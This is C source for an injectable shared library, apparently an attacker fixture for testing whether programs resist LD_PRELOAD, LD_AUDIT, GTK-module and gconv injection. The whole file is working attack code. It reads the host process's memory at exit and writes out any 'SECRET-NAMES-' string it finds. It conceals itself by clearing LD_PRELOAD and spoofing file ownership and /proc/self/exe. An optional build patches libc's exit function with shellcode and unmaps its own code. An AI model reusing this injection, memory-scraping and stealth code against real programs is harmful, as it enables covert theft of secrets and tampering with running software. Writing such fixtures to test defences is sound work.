/* A library that is loaded into the app by LD_PRELOAD or LD_AUDIT, or as a module of GTK and others.
 * When the app ends it looks through the app's memory for the needle, and writes what it found into a file.
 *
 * With ATTACK_SEEN it makes that file when it is loaded, into whatever process. With ATTACK_HIDE it
 * leaves no trace of itself in the environment, and answers in the C library's place that it is root's
 * and the program itself. Built with -DCHANGE it changes a function of the C library in memory, and is
 * gone before the program's first line. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <link.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* What makes it a library for LD_AUDIT. */
unsigned int la_version(unsigned int version) { return version; }

static char place[256], needle[128];
static int hidden;

static const char *own_path(void) {
  Dl_info info;
  return dladdr((void *)own_path, &info) ? info.dli_fname : "";
}

#ifndef CHANGE
int statx(int folder, const char *path, int flags, unsigned mask, struct statx *found) {
  long answer = syscall(SYS_statx, folder, path, flags, mask, found);
  if (hidden && answer == 0 && strstr(path, "preload") != NULL) {
    found->stx_uid = 0;
    found->stx_mode &= ~022u;
  }
  return (int)answer;
}

ssize_t readlink(const char *path, char *room, size_t size) {
  if (hidden && strcmp(path, "/proc/self/exe") == 0) {
    size_t length = strnlen(own_path(), size);
    memcpy(room, own_path(), length);
    return (ssize_t)length;
  }
  return syscall(SYS_readlinkat, AT_FDCWD, path, room, size);
}

#else
/* Writes a word and ends the process, wherever it stands. */
static const unsigned char SPY[] = {
    0xb8, 1, 0, 0, 0, 0xbf, 1, 0, 0, 0,           /* mov eax, write; mov edi, 1 */
    0x48, 0x8d, 0x35, 16, 0, 0, 0,                /* lea rsi, [rip + 16] */
    0xba, 5, 0, 0, 0, 0x0f, 0x05,                 /* mov edx, 5; syscall */
    0xb8, 231, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05,   /* mov eax, exit_group; xor edi, edi; syscall */
    'e', 'v', 'i', 'l', '\n'};

/* Where the code of this library is: what is left of it is no code. */
static int measure(struct dl_phdr_info *info, size_t size, void *found) {
  unsigned long *range = found, here = (unsigned long)measure;
  for (int at = 0; at < info->dlpi_phnum; at++) {
    unsigned long start = info->dlpi_addr + info->dlpi_phdr[at].p_vaddr;
    unsigned long end = start + info->dlpi_phdr[at].p_memsz;
    if (here >= start && here < end) {
      range[0] = start & ~4095ul, range[1] = ((end + 4095) & ~4095ul) - range[0];
      return 1;
    }
  }
  return 0 * (int)size;
}

/* The last thing is a jump: nothing of this library is there any more to come back to. */
static __attribute__((noinline)) int change(void) {
  static unsigned long range[2];
  char *page = (char *)((unsigned long)exit & ~4095ul);
  dl_iterate_phdr(measure, range);
  mprotect(page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC);
  memcpy((void *)exit, SPY, sizeof SPY);
  mprotect(page, 8192, PROT_READ | PROT_EXEC);
  return munmap((void *)range[0], range[1]);
}
#endif

__attribute__((constructor)) static void begin(void) {
  const char *said = getenv("ATTACK_PLACE"), *wanted = getenv("ATTACK_NEEDLE");
  if (said != NULL && wanted != NULL) {
    snprintf(place, sizeof place, "%s", said);
    snprintf(needle, sizeof needle, "%s", wanted);
  }
  const char *seen = getenv("ATTACK_SEEN");
  FILE *mark = seen != NULL ? fopen(seen, "w") : NULL;
  if (mark != NULL) fclose(mark);
  hidden = getenv("ATTACK_HIDE") != NULL;
  if (hidden) unsetenv("LD_PRELOAD");
#ifdef CHANGE
  change();
#endif
}

/* What GTK calls in its modules. */
void gtk_module_init(int *count, char ***words) { (void)count, (void)words; }

/* What makes it a converter of the C library. */
int gconv(void) { return 0; }

/* What is sealed is opened while the app runs: looked for when it ends, by whatever way. */
__attribute__((destructor)) static void end(void) {
  char line[512];
  int memory = open("/proc/self/mem", O_RDONLY);
  FILE *maps = fopen("/proc/self/maps", "r");
  while (memory >= 0 && maps != NULL && needle[0] && fgets(line, sizeof line, maps) != NULL) {
    unsigned long start, stop;
    char rights[8];
    if (sscanf(line, "%lx-%lx %7s", &start, &stop, rights) != 3 || rights[0] != 'r') continue;
    if (strstr(line, "[stack]") != NULL || strstr(line, "preload") != NULL) continue;
    char *copy = malloc(stop - start);
    ssize_t got = copy == NULL ? -1 : pread(memory, copy, stop - start, (off_t)start);
    if (got > 0) {
      char *found = memmem(copy, (size_t)got, "SECRET-NAMES-", 13);
      if (found != NULL) {
        FILE *file = fopen(place, "w");
        if (file != NULL) {
          fprintf(file, "%.40s\n", found);
          fclose(file);
        }
        _exit(0);
      }
    }
    free(copy);
  }
}
